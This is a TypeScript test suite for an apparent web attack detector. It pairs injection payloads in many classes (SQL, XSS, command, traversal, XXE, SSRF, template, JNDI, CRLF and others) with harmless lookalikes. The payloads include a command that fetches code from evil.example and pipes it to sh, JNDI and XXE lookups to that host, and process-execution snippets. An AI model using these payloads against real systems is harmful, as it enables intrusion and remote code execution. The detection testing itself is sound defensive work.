import assert from 'node:assert'
import { test } from 'node:test'
import { compileDetection, detect } from '../../lib/detect/index.ts'

/** Three attacks of each class that stand in no list, and three harmless neighbours. */
const CLASSES: Record<string, { attacks: string[], harmless: string[] }> = {
  sqli: {
    attacks: [
      "kiwi' or plum~all(array[pear])--",
      "lime' and fig notnull --",
      '1.e(ascii',
      '9.e(version)',
      'TRUN/**/CATE/*x*/pears',
      'drop/*x*/pears',
      'or \'{"kiwi":[4]}\' -> \'$.kiwi[0]\' = 4',
      'select current_database()',
      'select 4,5,6',
      'create table pears(id int)',
      "attach database 'p.db' as p",
      "copy pears from program 'ls'",
      "'union a",
      '; select kiwi',
      '&&(kiwi=0)',
      'and 77=(',
      'or pear!="',
      "' or match kiwi against ('x')",
      'concat(0x6b,0x69)',
      '7 or @@hostname',
      'from `pears` group by kiwi',
      "values ('kiwi','lime')",
      '9 or {if length((1))>0}',
      "'7' not like '8'",
      'id having (true or 5)',
      "kiwi') or (5)=(5) -- ", '-7 union distinct select null,(select group_concat(zip) from towns)', "9';waitfor time '23:59'--"],
    harmless: [
      'src/**/test/*.ts',
      'select all that apply',
      "the boys' room or hall",
      'attach the database dump',
      'show me the tables',
      'copy a from b',
      'create table reservations',
      'and 7 of 9',
      'values (see the list)',
      "it's 5 or 6",
      '1.5e3',
      "'hello'",
      "O'Brien and D'Arcy", 'please select a plan from the list below', 'the union selected a leader; drop by any time']
  },
  xss: {
    attacks: [
      'lime.map(alert)',
      '(confirm)(9)',
      'prompt.call`9`',
      '<p x-init="kiwi()">',
      '<f o r m action=x>',
      'vb\tscript:msgbox(9)',
      "jQuery.globalEval('kiwi')",
      'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHJvbXB0KDkpPg==',
      '<details/open/ontoggle=confirm`9`>', 'java\tscript:alert(9)', "'-prompt(9)-'"],
    harmless: [
      'map the alerts',
      'call.apply is a method',
      'data:image/svg+xml;base64,PHN2ZyB3aWR0aD0iOSI+PC9zdmc+',
      'x-init is an attribute',
      'a form of art',
      'JavaScript: The Good Parts', 'a < b && c > d', '<b>bold</b> and <a href="https://example.com/">a link</a>']
  },
  command: {
    attacks: [
      'x;hostnamectl',
      '7|docker ps',
      '&& apt-get install kiwi',
      'k=who;l=ami;$k$l',
      '8;.shell ls',
      '-oProxyCommand=kiwi',
      '--use-askpass=kiwi',
      '!-3!-4',
      'ki%kiwi:~2,4%wi',
      'c{a,ello}t',
      'n^e^t^s^t^a^t',
      '\\ls',
      '$((9))',
      'kubectl-kiwi get x; ss -lntp',
      'openssl version -a',
      'ansible kiwi -m ping',
      '9.9.9.9 && wget http://evil.example/p -O- | sh', 'x;n\\e\\t\\s\\t\\a\\t -an', '$(printf cat)${IFS}/etc/group'],
    harmless: [
      'apple; docker whale',
      'time; after time',
      '-o name',
      '!-1',
      'c{1,2}t',
      '2^8^2',
      '--output',
      'a tool like openssl',
      'Price-list -all',
      'set-up; top-notch',
      'tom & jerry; cat and mouse', 'type | time | date', 'Use `git log` or `ls` for it']
  },
  traversal: {
    attacks: [
      '..u2216..u2216..u2216kiwi',
      '%%32%65%%32%65/%%32%65%%32%65/kiwi',
      '/var/run/docker.sock',
      'conf/tomcat-users.xml',
      'kiwi.php.bak',
      'config/database.yml',
      '..%5c..%5c..%5cboot.ini', '/srv/app/../../../../etc/group', '....//....//....//srv/key'],
    harmless: [
      'kiwi.bak',
      'u2215',
      'the config of a database',
      'docker.sock',
      'wait... what?', 'v1..v2', '/docs/guide/index.html']
  },
  'file-inclusion': {
    attacks: ['php://filter/read=string.toupper/resource=a.php', 'expect://id', 'phar://up.jpg/a'],
    harmless: ['https://example.com/a.pdf', 'data:image/png;base64,iVBORw0KGgo=', 'a php script']
  },
  ldap: {
    attacks: [
      'kiwi:2.5.13.5:=plum',
      '(password=*)',
      '\\2a\\29\\28',
      'kiwi)(&(password=*)',
      'zoe)(|(mail=*', '*)(&(cn=*', 'x)(!(cn=y'],
    harmless: [
      '(&(ou=kiwi)(flags:1.2.840.113556.1.4.803:=2))',
      'C:\\28\\a',
      '2.5 (of 13)',
      '(one) and (two)', '(&(cn=a)(ou=b))', 'f(x) * g(y)']
  },
  xml: {
    attacks: ['<!DOCTYPE q [<!ENTITY w SYSTEM "http://evil.example/z">]><q>&w;</q>', '<!DOCTYPE z SYSTEM "file:///z.dtd">', '<q xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/z"/></q>'],
    harmless: ['<!DOCTYPE html><title>x</title>', '<?xml version="1.0"?><a>b</a>', '<note><![CDATA[a & b]]></note>']
  },
  ssrf: {
    attacks: [
      'http://456.1.2.3/',
      'http://vault.internal/',
      '/latest/meta-data/kiwi',
      'http+unix://kiwi',
      'http://0177.0.0.1/x', 'http://[::ffff:7f00:1]/', 'gopher://10.1.1.1:25/_HELO'],
    harmless: [
      'http://internal.example.com/',
      'the latest metadata',
      'unix and http',
      'https://example.com/path?next=http://example.org/', 'http://203.0.113.9/status', 'wss://live.example.net/socket']
  },
  template: {
    attacks: [
      '{%print(9)%}',
      '[[9*9]]',
      '{{ .Kiwi "x" }}',
      '{{9|add:9}}',
      "${kiwi('x')}",
      '{$kiwi|system}',
      '#parse("kiwi")',
      '${.version}',
      '[%9*9%]',
      '{{13*37}}', '{{[].__class__.__base__.__subclasses__()}}', "#{T(java.lang.System).getenv('a')}"],
    harmless: [
      '{{ format(date) }}',
      '{{0|1|2}}',
      '#parse',
      '{a|b}',
      '[[link]]',
      'Hello {{first_name}}', '${name} is here', '{% note %}']
  },
  code: {
    attacks: [
      'Thread.sleep(9)',
      'response.write(9*9)',
      "getattr(os,'kiwi')",
      "'.phpinfo().'",
      '(/* x */system)(ls)',
      '@{[kiwi 9]}',
      'javax.naming.Kiwi',
      'memory_limit=9M',
      "compile('9','','exec')",
      "open('kiwi').read()",
      "require('child_process').execSync('id')", '<?php echo file_get_contents("x"); ?>', "__import__('os').popen('id')"],
    harmless: [
      'the thread sleeps',
      'a response to write',
      'compile (it) and exec',
      "open('kiwi')",
      'precision matters',
      'engine: v8',
      'the system is down', 'import duties and the process', '<?xml version="1.0" encoding="UTF-8"?>']
  },
  deserialization: {
    attacks: ['O:7:"Monkeys":1:{s:1:"a";i:1;}', 'rO0ABXNyAAdNb25rZXlz', '!!python/object/apply:os.getcwd []'],
    harmless: ['eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln', 'a:b:c', 'AAECAwQFBgcICQ==']
  },
  'prototype-pollution': {
    attacks: ['__proto__[x]', 'a.constructor.prototype.x', '{"__proto__":{"x":1}}'],
    harmless: ['the constructor', 'a prototype', 'proto.example.com']
  },
  crlf: {
    attacks: [
      'kiwi\u560a\u560dSet-Cookie: a=b',
      '\u560aLocation: //x.example',
      'x\u560a\u560dX-Kiwi: a=9',
      'x\r\nSet-Cookie: z=1', 'x\r\n\r\nHTTP/1.1 200 OK\r\n\r\nhi', 'x\nGET /z HTTP/1.1\nHost: evil.example'],
    harmless: [
      '\u560a\u55e8',
      '\u4f60\u597d: a',
      'kiwi: 9',
      'two\r\nlines', 'a: b', 'GET started']
  },
  jndi: {
    attacks: ['${jndi:rmi://evil.example/z}', '${${upper:j}${lower:N}di:dns://evil.example}', '${${env:Q:-j}ndi${env:Q:-:}ldap://evil.example}'],
    harmless: ['${name}', 'the jndi: prefix', '$100 {cash}']
  },
  nosql: {
    attacks: ["'; return this.a == 'b", '{"$where": "1"}', "' || 1==1//"],
    harmless: ['{"$schema":"https://example.com/s.json"}', 'costs $10 in all', '{"amount":{"$gt":5}}']
  }
}

for (const [category, { attacks, harmless }] of Object.entries(CLASSES)) {
  for (const text of attacks) test(`${category}: ${JSON.stringify(text)}`, () => { assert.ok(detect(text).attack) })
  for (const text of harmless) {
    test(`no ${category}: ${JSON.stringify(text)}`, () => {
      assert.deepStrictEqual(detect(text).matches, [])
      assert.deepStrictEqual(detect({ body: { text } }).matches, [])
    })
  }
}

test('ordinary requests pass', () => {
  const detector = compileDetection({}, { maxBytes: 1 << 20 })
  const headers = {
    'sec-ch-ua': '"Chromium";v="130", "Google Chrome";v="130", "Not?A_Brand";v="99"',
    'sec-ch-ua-full-version-list': '"Chromium";v="130.0.6723.58", "Not?A_Brand";v="99.0.0.0"',
    'sec-ch-ua-platform': '"Windows"',
    'user-agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36',
    accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
    'if-none-match': 'W/"5f-abc"',
    authorization: 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln',
    cookie: 'CookieConsent={stamp:%27abc%3D%3D%27%2Cnecessary:true%2Cpreferences:false%2Cmethod:%27explicit%27%2Cver:1}; _ga=GA1.2.3.4; sid=s%3Aabc.def%2Fghi%2B; OptanonConsent=isGpcEnabled=0&datestamp=Mon+Jan+01+2026&groups=C0001%3A1%2CC0002%3A0',
    referer: 'https://www.example.com/search?q=shoes+and+socks&page=2'
  }
  for (const url of ['/', '/robots.txt', '/app.js.map', '/src/index.ts', '/a/b/c++', '/login?next=https%3A%2F%2Fexample.com%2Fcallback%3Fa%3D1', '/p?sort=-created&filter[name]=x&fields=id,name', '/oauth?redirect_uri=http://localhost:3000/callback', '/s?q=C%2B%2B+%26+C%23', '/s?q=50%25+off']) {
    assert.strictEqual(detector.request(url, headers, false), undefined, url)
  }
  for (const body of [
    { query: 'query Q($id: ID!) { user(id: $id) { name ...F } } fragment F on User { id }', variables: { id: '1' } },
    { css: 'a:hover { color: red; width: calc(100% - 2px) }', latex: '\\frac{a}{b} \\left( x^2 \\right) $x_1 + y$' },
    { md: '# Title\n\nUse `npm i x` and [a link](https://example.com).\n\n```js\nconst a = require(\'fs\')\nif (a && b || c) { alert(1) }\n```\n\n| id | name |\n|---|---|\n| 1 | cat |\n' },
    { $schema: 'https://json-schema.org/draft/2020-12/schema', $ref: '#/definitions/a', $id: 'x' },
    { chat: "lol :-) <3 that's what she said; rock 'n' roll --- really?!", mail: 'a@b.example', when: '2026-01-01T00:00:00Z', path: 'src/lib/index.ts' },
    { image: 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk', tags: ['a', 'b & c', '100%', 'A/B'] }
  ]) assert.strictEqual(detector.body(body, 'application/json'), undefined, JSON.stringify(body))
  assert.strictEqual(detector.body('<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><m:Get xmlns:m="https://example.com/m"><m:Item>Apples &amp; pears</m:Item></m:Get></soap:Body></soap:Envelope>', 'text/xml'), undefined)
})
